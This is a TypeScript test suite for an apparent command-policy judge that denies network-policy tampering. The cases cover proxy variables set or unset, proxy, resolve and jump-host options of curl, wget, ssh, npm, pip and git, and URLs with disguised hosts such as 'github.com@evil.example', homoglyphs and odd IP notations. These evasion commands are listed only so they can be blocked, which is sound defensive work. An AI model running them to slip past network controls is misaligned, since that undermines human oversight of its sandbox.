import assert from 'node:assert/strict';
import type { Verdict } from '../../../protocol/policy';
import { urlTrick } from '../../../server/exec/knowledge/networkTampering';
import { EMPTY_POLICY, judgeCommand } from '../../../server/exec/policy';
import { classTable } from './classDocs';
import { Fixture } from './harness';

// Issue 13, part 4: changing how commands reach the network is denied (`network-tampering`): the
// proxy environment set or removed, proxy and routing options, and URLs whose host is disguised.
// Through the real judge, in the harness's fake home and workspace.

describe('exec: network-policy tampering', () => {
  let fx: Fixture;
  beforeEach(() => (fx = new Fixture()));
  afterEach(() => fx.dispose());

  const judge = (text: string): Promise<Verdict> => judgeCommand(fx.map(text), fx.context(EMPTY_POLICY));
  const show = (v: Verdict) => `${v.verdict}: ${v.reasons.join(' | ')}`;

  /** Each command is denied by builtin:network-tampering, with a reason that matches. */
  async function tampering(commands: readonly string[], reason: RegExp): Promise<void> {
    for (const command of commands) {
      const v = await judge(command);
      assert.equal(v.verdict, 'deny', `${command} → ${show(v)}`);
      const rule = v.rules.find((r) => r.id === 'builtin:network-tampering');
      assert.ok(rule, `${command}: ${v.rules.map((r) => r.id).join(', ')}`);
      assert.equal(rule.effect, 'deny');
      assert.equal(v.risk, 'high');
      assert.ok(
        v.reasons.some((r) => reason.test(r)),
        `${command}: ${v.reasons.join(' | ')}`,
      );
    }
  }

  async function untouched(commands: readonly string[], verdict: 'ask' | 'allow'): Promise<void> {
    for (const command of commands) {
      const v = await judge(command);
      assert.equal(v.verdict, verdict, `${command} → ${show(v)}`);
      assert.ok(!v.rules.some((r) => r.id === 'builtin:network-tampering'), `${command}: ${show(v)}`);
    }
  }

  it('every example of the class table in docs/policy.md is denied, every neighbour keeps its verdict', async () => {
    const rows = classTable('Network-policy tampering');
    assert.ok(rows.length >= 10);
    for (const row of rows) {
      assert.ok(row.denied, `${row.name} needs an example`);
      await tampering([row.denied], /./);
      if (row.neighbour) await untouched([row.neighbour.command], row.neighbour.verdict);
    }
  });

  it('setting a proxy variable, in any case and any way, is denied', async () => {
    await tampering(
      [
        'HTTP_PROXY=http://203.0.113.5:3128 curl https://example.com',
        'http_proxy=http://203.0.113.5:3128 git fetch origin',
        'export HTTPS_PROXY=http://203.0.113.5:3128',
        'declare -x ALL_PROXY=socks5://203.0.113.5:1080',
        "env NO_PROXY='*' curl https://example.com",
        'set -a; ftp_proxy=http://203.0.113.5:3128; set +a',
        'npm_config_proxy=http://203.0.113.5:3128 npm view react',
        'npm_config_https_proxy=http://203.0.113.5:3128 npm view react',
        "npm_config_noproxy='*' npm view react",
        'PIP_PROXY=http://203.0.113.5:3128 pip download requests',
        'YARN_HTTP_PROXY=http://203.0.113.5:3128 yarn info react',
      ],
      /proxy, so connections bypass the network policy/,
    );
  });

  it('removing a proxy variable is denied: unset, export -n, declare +x, local, env -u, env --unset', async () => {
    await tampering(
      [
        'unset http_proxy',
        'unset -v HTTPS_PROXY NO_PROXY',
        'export -n HTTP_PROXY',
        'declare +x https_proxy',
        'f() { local no_proxy; curl https://example.com; }',
        'env -u HTTPS_PROXY curl https://example.com',
        'env --unset=no_proxy curl https://example.com',
      ],
      /removes a proxy setting/,
    );
    await tampering(['env -i curl https://example.com'], /without the proxy environment/);
  });

  it('the proxy and routing options of network tools are denied', async () => {
    await tampering(
      [
        'curl -x http://203.0.113.5:3128 https://example.com',
        'curl -sSx http://203.0.113.5:3128 https://example.com',
        'curl --proxy=http://203.0.113.5:3128 https://example.com',
        "curl --noproxy '*' https://example.com",
        'curl --socks5-hostname 203.0.113.5:1080 https://example.com',
        'curl --preproxy socks5://203.0.113.5 https://example.com',
        'curl --resolve example.com:443:203.0.113.5 https://example.com',
        'curl --connect-to ::203.0.113.5: https://api.github.com',
        'curl --doh-url https://dns.example https://example.com',
        'wget --no-proxy https://example.com',
        'wget -e use_proxy=off https://example.com',
        'wget --execute=https_proxy=http://203.0.113.5:3128 https://example.com',
        'ssh -J 203.0.113.5 deploy@example.com',
        'ssh -o ProxyJump=203.0.113.5 deploy@example.com',
        'scp -J 203.0.113.5 README.md deploy@example.com:',
        "rsync -a -e 'ssh -J 203.0.113.5' README.md deploy@example.com:",
        'npm --proxy http://203.0.113.5:3128 view react',
        'npm install --https-proxy=http://203.0.113.5:3128',
        'yarn add react --proxy http://203.0.113.5:3128',
        'pip install --proxy http://203.0.113.5:3128 requests',
        'http --proxy=https:http://203.0.113.5:3128 GET https://example.com',
        'aria2c --all-proxy=http://203.0.113.5:3128 https://example.com/f',
      ],
      /changes which proxy/,
    );
    await tampering(
      [
        'npm config set proxy http://203.0.113.5:3128',
        'npm config set --location=project https-proxy=http://203.0.113.5:3128',
        'pip config set global.proxy http://203.0.113.5:3128',
      ],
      /config changes the .*proxy setting/,
    );
  });

  it("git's proxy settings on the command line are denied, set or unset; reading them is not", async () => {
    await tampering(
      [
        'git -c http.proxy=http://203.0.113.5:3128 fetch',
        'git -c http.https://github.com.proxy=http://203.0.113.5:3128 fetch',
        'git -c remote.origin.proxy=http://203.0.113.5:3128 pull',
        'git -c http.curloptResolve=github.com:443:203.0.113.5 fetch',
        'git clone --config http.proxy=http://203.0.113.5:3128 https://github.com/acme/app.git',
        'git config http.proxy http://203.0.113.5:3128',
        'git config --unset http.proxy',
      ],
      /which decides where git's connections go/,
    );
    await untouched(['git config --get http.proxy'], 'allow');
  });

  it('URLs whose host is disguised are denied in network commands and in stored remotes', async () => {
    await tampering(
      [
        'curl https://github.com@evil.example/',
        'curl https://github.com:443@evil.example/',
        'curl https://127.0.0.1@evil.example/',
        'git clone https://github.com@evil.example/acme/app.git',
        'npm install https://registry.npmjs.org@evil.example/x.tgz',
        'git remote add upstream https://github.com@evil.example/acme/app.git',
        'curl --url=https://github.com@evil.example/ -s',
      ],
      /before the @ is only a user name that looks like a host/,
    );
    await tampering(
      ['curl https://github.com%40evil.example/', 'curl https://git%68ub.com/'],
      /percent-encoded characters in its host/,
    );
    await tampering(["curl 'https://evil.example\\@github.com/'"], /backslash in its host part/);
    await tampering(
      ['curl http://0x7f.1/', 'curl http://2130706433/', 'curl http://0177.0.0.1/', 'curl http://127.1/'],
      /writes the address 127\.0\.0\.1 as/,
    );
    await tampering(['curl https://ｇｉｔｈｕｂ.com/'], /parsers read as github\.com/);
    await tampering(["curl $'https://git\\thub.com/'"], /control, invisible or space characters/);
    await tampering(
      ['curl https://g\u0456thub.com/', 'curl https://\u0440\u0430\u0443\u0440\u0430l.com/'],
      /mixes (Latin and Cyrillic|Cyrillic and Latin) letters/,
    );
    await tampering(['curl https://xn--gthub-n4a.com/'], /spells "github" with look-alike letters/);
    await tampering(['curl http://xn--zz.com/'], /not a valid host name/);
  });

  it('urlTrick: what is a trick and what is an ordinary URL', () => {
    for (const url of [
      'https://example.com/',
      'https://api.github.com/repos/acme/app?per_page=100#x',
      'https://x-access-token:abc@github.com/acme/app.git',
      'https://me%40corp.com@git.corp.example/x.git',
      'https://john.doe@bitbucket.example.com/scm/app.git',
      'ssh://git@github.com/acme/app.git',
      'git+ssh://git@github.com:acme/app.git',
      'http://127.0.0.1:8080/',
      'http://[::1]:8080/',
      'http://[0:0:0:0:0:0:0:1]/',
      'https://münchen.de/',
      'https://xn--mnchen-3ya.de/',
      'https://пример.рф/',
      'https://日本語.jp/',
      'https://GitHub.com./',
      's3://bucket/key',
      'file:///etc/hosts',
      'http://a_b.internal/',
    ])
      assert.equal(urlTrick(url), null, url);
  });

  it('neighbours keep their verdicts: reading proxies, Go module proxies, CA bundles, ordinary URLs', async () => {
    await untouched(
      [
        'echo $HTTP_PROXY',
        'printenv HTTPS_PROXY',
        'env | grep -i proxy',
        'unset FOO',
        'env -i ls',
        'CI=1 git status',
      ],
      'allow',
    );
    await untouched(
      [
        'GOPROXY=direct go mod download',
        'NODE_EXTRA_CA_CERTS=./ca.pem npm view react',
        'curl -sI https://example.com',
        'curl http://localhost:3000/api',
        'ssh -o ServerAliveInterval=30 deploy@example.com',
        'wget -e robots=off https://example.com',
        'git clone https://john.doe@bitbucket.example.com/scm/app.git',
        'npm install git+ssh://git@github.com:acme/app.git',
        'git remote add upstream https://github.com/acme/app.git',
      ],
      'ask',
    );
    await untouched(['echo https://github.com@evil.example/', 'git log --grep=proxy'], 'allow');
    // GIT_PROXY_COMMAND runs a program: it stays exec-env.
    const v = await judge('GIT_PROXY_COMMAND=./connect.sh git fetch');
    assert.equal(v.verdict, 'deny');
    assert.ok(v.rules.some((r) => r.id === 'builtin:exec-env'));
  });
});
